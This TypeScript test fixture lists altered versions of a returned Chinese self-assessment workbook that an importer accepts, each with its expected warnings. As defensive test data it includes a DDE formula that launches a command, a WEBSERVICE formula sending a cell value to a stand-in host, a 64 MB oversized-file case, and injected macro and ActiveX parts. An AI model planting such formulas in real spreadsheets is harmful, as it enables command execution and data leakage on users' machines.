import type { SheetLayout } from "../../../../../src/workbook/sheetLayout.ts";
import { answers, filledSheets, formBytes, partOf, withRows, type Typing } from "../../../../fixtures/returnedForms.ts";
import {
  typed,
  laid,
  parts,
  edit,
  added,
  tasks,
  firstPoints,
  pointsCell,
  swapped,
  columnBefore,
  asOthersWrite,
  asWpsSaves,
  wide,
  bomb,
  type Damage,
} from "./damageBuilders.ts";

/** What people and programs do to a form that is taken all the same, with all that is said of it. */
export const accepted: readonly Damage[] = [
  { what: "parts of 64 MB in all, as a pack of 300 units and 200 criteria has", build: () => bomb(64) },
  { what: "nothing", build: () => formBytes(), told: [] },
  {
    what: "a sheet renamed",
    build: () => laid("任务自评", (sheet) => ({ ...sheet, name: "我局任务" })),
    told: ["sheet-renamed"],
  },
  { what: "two columns exchanged", build: () => laid("任务自评", swapped), told: ["columns-moved"] },
  { what: "a column put in before the others", build: () => laid("任务自评", columnBefore), told: ["cells-beside"] },
  {
    what: "empty rows put in between",
    build: () =>
      laid(
        "任务自评",
        withRows((rows) => rows.flatMap((row) => [row, row.map(() => null)])),
      ),
    told: [],
  },
  {
    what: "lines put in above the table",
    build: () =>
      laid("任务自评", (sheet) => ({ ...sheet, lines: ["市教育局办公室填", ...sheet.lines, "联系人见封面"] })),
    told: [],
  },
  {
    what: "rows sorted the other way",
    build: () =>
      laid(
        "指标自评",
        withRows((rows) => [...rows].reverse()),
      ),
    told: [],
    says: "other",
  },
  { what: "sheets in another order", build: () => formBytes([...filledSheets].reverse()), told: [] },
  { what: "full-width digits", build: () => typed(["指标自评", 0, "自评分", "９．５"]), told: ["repaired-width"] },
  {
    what: "a number stored as text",
    build: () => typed(["指标自评", 0, "自评分", "9.5"]),
    told: ["repaired-text-number"],
  },
  { what: "a percentage as text", build: () => typed(["指标自评", 0, "自评分", "95%"]), told: ["repaired-percent"] },
  {
    what: "a percentage by its format",
    build: () =>
      parts((all) => {
        edit("xl/styles.xml", "</cellXfs>", '<xf numFmtId="10" fontId="0" fillId="0" borderId="0"/></cellXfs>')(all);
        const format = /<cellXfs count="(\d+)"/u.exec(all["xl/styles.xml"] ?? "")?.[1] ?? "";
        pointsCell(`<c r="${firstPoints}" s="${format}"><v>0.95</v></c>`)(all);
      }),
    told: ["repaired-percent"],
  },
  {
    what: "the word 分 behind a number",
    build: () => typed(["指标自评", 0, "自评分", "9.5分"]),
    told: ["repaired-points"],
  },
  {
    what: "spaces within a choice",
    build: () => typed(["任务自评", 0, "完成情况", "完 成"]),
    told: ["repaired-choice"],
  },
  { what: "spaces around an answer", build: () => typed(["任务自评", 0, "完成情况", " 完成\n"]), told: [] },
  {
    what: "a plus before a number",
    build: () => typed(["指标自评", 0, "自评分", "+9.5"]),
    told: ["repaired-text-number"],
  },
  { what: "a date as text", build: () => typed(["佐证材料", 0, "日期", "2026年3月5日"]), told: ["repaired-date"] },
  {
    what: "a date with dots and full-width digits",
    build: () => typed(["佐证材料", 0, "日期", "２０２６.３.５"]),
    told: ["repaired-date"],
  },
  { what: "a date without marks", build: () => typed(["佐证材料", 0, "日期", 20260305]), told: ["repaired-date"] },
  ...["2026-3-5 10:30", "2026/3/5 1:30:00", "2026-03-05T00:00:00"].map((got): Damage => ({
    what: `a date with its hour, ${got}`,
    build: () => typed(["佐证材料", 0, "日期", got]),
    told: ["repaired-date"],
  })),
  {
    what: "a document's number that a spreadsheet took for a day",
    build: () =>
      parts((all) => {
        edit("xl/styles.xml", "</cellXfs>", '<xf numFmtId="14" fontId="0" fillId="0" borderId="0"/></cellXfs>')(all);
        const format = /<cellXfs count="(\d+)"/u.exec(all["xl/styles.xml"] ?? "")?.[1] ?? "";
        edit(partOf("佐证材料"), /<c r="C4"[^>]*>.*?<\/c>/u, `<c r="C4" s="${format}"><v>46082</v></c>`)(all);
      }),
    told: ["repaired-date"],
    says: "other",
  },
  {
    what: "a column hidden",
    build: () => parts(edit(tasks, /(<col min="7" max="7")/u, '$1 hidden="1"')),
    told: ["columns-hidden"],
  },
  {
    what: "pictures pasted in",
    build: () => parts(added("xl/media/image1.png")),
    told: ["content-dropped-pictures"],
  },
  {
    what: "comments on cells",
    build: () => parts(added("xl/comments1.xml", "<comments/>")),
    told: ["content-dropped-remarks"],
  },
  {
    what: "days counted from 1904",
    build: () =>
      parts((all) => {
        edit("xl/workbook.xml", "<workbookPr/>", '<workbookPr date1904="1"/>')(all);
        edit(partOf("佐证材料"), "<v>46086</v>", "<v>44624</v>")(all);
      }),
    told: ["dates-from-1904", "repaired-1904"],
  },
  {
    what: "a row hidden",
    build: () => parts(edit(tasks, '<row r="4"', '<row r="4" hidden="1"')),
    told: ["rows-hidden"],
  },
  {
    what: "a filter left on",
    build: () =>
      parts((all) => {
        edit(tasks, '<row r="4"', '<row r="4" hidden="1"')(all);
        edit(
          "xl/tables/table3.xml",
          /<autoFilter ref="([^"]+)"\/>/u,
          '<autoFilter ref="$1"><filterColumn colId="5"><filters><filter val="未完成"/></filters></filterColumn></autoFilter>',
        )(all);
      }),
    told: ["rows-hidden", "filter-left-on"],
  },
  {
    what: "accounts of two rows merged",
    build: () => parts(edit(tasks, "<mergeCells", '<mergeCells><mergeCell ref="G4:G5"/></mergeCells><mergeCells')),
    told: ["repaired-merged"],
    says: "other",
  },
  {
    what: "text in white",
    build: () =>
      parts((all) => {
        edit("xl/styles.xml", "</fonts>", '<font><color rgb="FFFFFFFF"/></font></fonts>')(all);
        edit("xl/styles.xml", "</cellXfs>", '<xf numFmtId="0" fontId="3" fillId="0" borderId="0"/></cellXfs>')(all);
        const format = /<cellXfs count="(\d+)"/u.exec(all["xl/styles.xml"] ?? "")?.[1] ?? "";
        edit(tasks, /<c r="G4" s="\d+"/u, `<c r="G4" s="${format}"`)(all);
      }),
    told: ["text-unseen"],
  },
  {
    what: "a hidden sheet put in",
    build: () =>
      formBytes([...filledSheets, { ...(filledSheets[0] as SheetLayout), name: "底稿", visibility: "veryHidden" }]),
    told: ["sheet-hidden"],
  },
  {
    what: "a sheet of notes put in",
    build: () =>
      formBytes([
        ...filledSheets,
        { name: "说明", visibility: "visible", title: "我局说明", lines: [], table: null, landscape: false },
      ]),
    told: ["sheet-extra"],
  },
  {
    what: "notes beside the table",
    build: () =>
      parts(edit(tasks, /(<row r="4".*?)<\/row>/u, '$1<c r="Z4" t="inlineStr"><is><t>复核过</t></is></c></row>')),
    told: ["cells-beside"],
  },
  {
    what: "a line of totals below the table",
    build: () =>
      laid(
        "指标自评",
        withRows((rows) => [...rows, ["合计", null, null, 100, null, null, null]]),
      ),
    told: ["row-foreign"],
  },
  { what: "macros", build: () => parts(added("xl/vbaProject.bin")), told: ["content-dropped-macros"] },
  {
    what: "an embedded file",
    build: () => parts(added("xl/embeddings/oleObject1.bin")),
    told: ["content-dropped-embedded"],
  },
  {
    what: "a control",
    build: () => parts(added("xl/activeX/activeX1.xml", "<a/>")),
    told: ["content-dropped-controls"],
  },
  {
    what: "a data connection",
    build: () => parts(added("xl/connections.xml", "<connections/>")),
    told: ["content-dropped-connections"],
  },
  {
    what: "a link to another workbook",
    build: () => parts(added("xl/externalLinks/externalLink1.xml", "<externalLink/>")),
    told: ["content-dropped-links"],
  },
  {
    what: "a formula that fetches from outside",
    build: () =>
      parts(
        edit(
          tasks,
          /(<row r="4".*?)<\/row>/u,
          '$1<c r="Z4"><f>WEBSERVICE("http://example.cn/"&amp;G4)</f><v>0</v></c></row>',
        ),
      ),
    told: ["content-dropped-remote", "cells-beside"],
  },
  {
    what: "a formula of the DDE kind",
    build: () =>
      parts(edit(tasks, /(<row r="4".*?)<\/row>/u, "$1<c r=\"Z4\"><f>cmd|'/C calc'!A0</f><v>0</v></c></row>")),
    told: ["content-dropped-remote", "cells-beside"],
  },
  {
    what: "the hidden sheet lost",
    build: () => formBytes(filledSheets.filter(({ visibility }) => visibility === "visible")),
    told: ["identity-from-properties"],
  },
  { what: "the properties lost", build: () => formBytes(filledSheets, {}), told: [] },
  {
    what: "texts shared, cells without addresses, rich text with reading aids",
    build: () => parts(asOthersWrite),
    told: [],
  },
  { what: "all that WPS does when it saves", build: () => parts(asWpsSaves), told: [] },
  { what: "parts in UTF-16", build: wide, told: [] },
  { what: "parts that are stored, not packed", build: () => parts(() => undefined, 0), told: [] },
  {
    what: "evidence of another year",
    build: () => typed(["佐证材料", 0, "日期", "2025-12-30"]),
    told: ["material-out-of-year"],
    says: "other",
  },
  {
    what: "the same evidence twice",
    build: () =>
      typed(
        ...answers
          .filter(([sheet]) => sheet === "佐证材料")
          .map(([sheet, , header, value]): Typing => [sheet, 1, header, value]),
      ),
    told: ["material-repeated"],
    says: "other",
  },
  {
    what: "done without evidence",
    build: () =>
      typed(...["对应编号", "材料名称", "文号", "日期", "网址"].map((header): Typing => ["佐证材料", 0, header, null])),
    told: ["claim-without-evidence"],
    says: "other",
  },
  {
    what: "text that looks like a formula",
    build: () => typed(["任务自评", 0, "自评说明", "=HYPERLINK(1)"]),
    told: [],
    says: "other",
  },
];
